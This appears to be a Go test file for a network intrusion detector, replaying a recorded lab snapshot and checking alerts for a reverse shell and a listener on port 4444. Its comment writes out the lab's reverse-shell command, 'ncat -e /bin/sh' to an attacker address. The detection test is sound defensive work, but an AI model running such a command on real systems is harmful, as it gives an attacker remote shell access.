package detect

import (
	"os"
	"testing"

	"github.com/tcpsentry/tcpsentry/internal/alert"
	"github.com/tcpsentry/tcpsentry/internal/output"
)

// TestRecordedLabSnapshot replays a snapshot recorded with `tcpsentry
// conns --json --netns victim` in a two-namespace lab: `ncat -e /bin/sh`
// connected to the attacker's 10.251.7.1:8443, and `ncat -l -k 0.0.0.0
// 4444`. (The recording format has no pipes, so the shell is seen through
// the socket it leaked, not through the relay.)
func TestRecordedLabSnapshot(t *testing.T) {
	f, err := os.Open("testdata/lab-victim.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	snap, errs := output.ReadJSON(f, "testdata/lab-victim.jsonl")
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	e := NewEngine(HostDetectors(defaults(t), Deps{}), "host:test", nil)
	if errs := e.ObserveSnapshot(snap); len(errs) != 0 {
		t.Fatal(errs)
	}
	check(t, e.Alerts(), []want{
		{alert.High, "listener on suspicious port tcp/4444", 12114},
		{alert.High, "interpreter ncat (pid 12119) without a terminal talks only to 10.251.7.1:8443", 12119},
		{alert.High, "interpreter sh (pid 12121) without a terminal talks only to 10.251.7.1:8443", 12121},
		{alert.Medium, "unauthorized tcp listener on 0.0.0.0:4444 by ncat (pid 12114)", 12114},
	})
}
